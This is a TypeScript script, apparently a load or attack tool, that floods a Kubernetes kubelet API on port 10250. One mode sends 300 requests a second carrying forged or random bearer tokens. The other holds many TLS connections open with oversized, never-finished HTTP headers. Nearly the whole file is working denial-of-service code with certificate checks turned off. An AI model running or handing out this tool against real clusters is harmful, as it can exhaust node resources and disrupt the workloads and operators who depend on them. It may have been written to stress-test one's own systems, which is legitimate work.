// Floods a kubelet API until it is ended: `tokens ADDRESS HEAD` asks 300 times a second with a token made up for it: any text, a JWT of
// that head, a JWT that seems to be in force. `heads ADDRESS COUNT` opens so many connections, each with 48 KiB or 1 MiB of a
// request's head that does not end. Says each second, as a line of JSON, what has come of it.
import { randomBytes } from "node:crypto";
import { Agent, get } from "node:https";
import { type TLSSocket, connect } from "node:tls";

const [kind, host = "", argument = ""] = process.argv.slice(2);
const rejectUnauthorized = false;
const port = 10250;

function floodTokens(): () => object {
  const agent = new Agent({ keepAlive: true, maxSockets: 128, rejectUnauthorized });
  const exp = Math.floor(Date.now() / 1000) + 3600;
  const claims = Buffer.from(JSON.stringify({ iss: "https://elsewhere", exp })).toString("base64url");
  const statuses: Record<string, number> = {};
  const count = (status: string | number) => void (statuses[status] = (statuses[status] ?? 0) + 1);
  let [sent, answered] = [0, 0];
  const since = performance.now();
  setInterval(() => {
    for (const due = ((performance.now() - since) / 1000) * 300; sent < due; sent++) {
      const text = () => randomBytes(48).toString("base64url");
      const kinds = [text(), `${argument}.${text()}.${text()}`, `${text()}.${claims}.${text()}`];
      const token = kinds[sent % 3] ?? "";
      const headers = { authorization: `Bearer ${token}` };
      get({ host, port, path: "/healthz", agent, headers }, (response) => {
        answered += 1;
        count(response.statusCode ?? 0);
        response.resume();
      }).once("error", () => count("error"));
    }
  }, 20);
  return () => ({ sent, answered, statuses });
}

function floodHeads(): () => object {
  const line = `X-A: ${"a".repeat(15_990)}\r\n`;
  const start = "GET /pods HTTP/1.1\r\nHost: x\r\n";
  const heads = [start + line.repeat(3), start + line.repeat(63)];
  const open = new Set<TLSSocket>();
  let opened = 0;
  const next = () => {
    if (opened === Number(argument)) return;
    const head = heads[opened % 2] ?? "";
    opened += 1;
    let isSent = false;
    const go = () => {
      if (!isSent) next();
      isSent = true;
    };
    const socket = connect({ port, host, rejectUnauthorized }, () => socket.write(head, go));
    open.add(socket);
    socket.resume();
    socket.on("error", () => socket.destroy());
    socket.once("close", () => {
      open.delete(socket);
      go();
    });
  };
  for (let side = 0; side < 16; side++) next();
  return () => ({ opened, open: open.size });
}

const state = kind === "heads" ? floodHeads() : floodTokens();
setInterval(() => process.stdout.write(`${JSON.stringify(state())}\n`), 1000);
